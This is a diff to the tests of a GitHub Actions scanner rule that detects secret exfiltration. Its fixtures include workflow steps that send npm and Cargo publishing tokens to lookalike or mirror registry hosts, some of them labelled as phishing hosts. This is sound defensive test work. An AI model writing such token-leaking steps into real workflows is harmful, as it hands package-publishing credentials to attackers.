@@ -663,6 +663,8 @@ describe('gha-secrets-exfiltration', () => {
           NODE_AUTH_TOKEN: \${{ secrets.NPM_PUBLISH_TOKEN }}
 `)}`;
     expect(only(setupNode, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
+    // A secret of any name in NODE_AUTH_TOKEN, with a registry-url spelled like npm's: the phishing host gets it.
+    expect(only(setupNode.replace('https://npm.pkg-mirror.net', 'https://registry.npmjs-cache.org').replace('NPM_PUBLISH_TOKEN', 'RELEASE_TOKEN'), 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
     const cargo = `on: push\n${job(`      - run: cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token "$CARGO_REGISTRY_TOKEN"
         env:
           CARGO_REGISTRY_TOKEN: \${{ secrets.CARGO_REGISTRY_TOKEN }}
@@ -686,6 +688,8 @@ describe('gha-secrets-exfiltration', () => {
       // A private registry with its own secret, or one whose name the secret carries.
       `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://acme.jfrog.io/artifactory/api/npm/npm-local/\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.ARTIFACTORY_NPM_TOKEN }}\n`,
       `      - run: npm publish --registry https://nexus.acme.dev/repository/npm-private/\n        env:\n          NPM_TOKEN: \${{ secrets.NEXUS_NPM_TOKEN }}\n`,
+      // A generically named secret in NODE_AUTH_TOKEN for a private registry not spelled like npm's.
+      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://npm.pkg-mirror.net\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.RELEASE_TOKEN }}\n`,
       // A scope's private registry beside a publish to npm: the token goes with an auth line only, and there is none for it.
       `      - run: |\n          echo "@acme:registry=https://acme.jfrog.io/artifactory/api/npm/npm/" >> .npmrc\n          npm publish\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
       // Another registry named by a command that does not publish: npm sends no token for it (npm-registry-override's concern).
